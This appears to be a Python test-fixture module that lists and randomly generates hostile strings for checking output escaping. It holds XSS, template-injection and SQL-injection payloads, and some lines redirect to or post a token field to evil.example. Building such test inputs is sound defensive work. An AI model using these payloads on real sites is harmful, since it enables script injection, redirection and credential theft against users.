"""Texts that would run or break out where a page forgets to escape: a list, and more from a seed."""

from __future__ import annotations

import random

_LIST = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "{{ 7 * 7 }}{% for x in ().__class__ %}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=token>",
    "<style>*{display:none}</style>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "\x1b[31mred\x1b[0m\x07",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\uff1cscript\uff1ealert(1)",
    "\u2028alert(1)\u2029",
    "a" * 900,
    "é" * 400 + "😀" * 50,
    "' OR 1=1 --",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
    "data:text/html,<script>alert(1)</script>",
)
_PIECES = (
    *("<", ">", '"', "'", "&", "/", "=", "`", "{{", "}}", "{%", "%}", "--", "\\", "\n", " ", "\t"),
    *("script", "img", "svg", "iframe", "object", "style", "onerror", "onload", "onfocus", "srcdoc"),
    *("alert(1)", "javascript:", "src=x", "autofocus", "href=", "data:text/html,", "</td>", "]]>", "<!--"),
)


def hostile_strings(count: int, seed: int = 7) -> list[str]:
    """So many texts; the same for the same seed."""
    draw = random.Random(seed)  # noqa: S311 - the same texts each time
    made = list(_LIST[:count])
    while len(made) < count:
        made.append("".join(draw.choice(_PIECES) for _ in range(draw.randint(2, 14))))
    return made
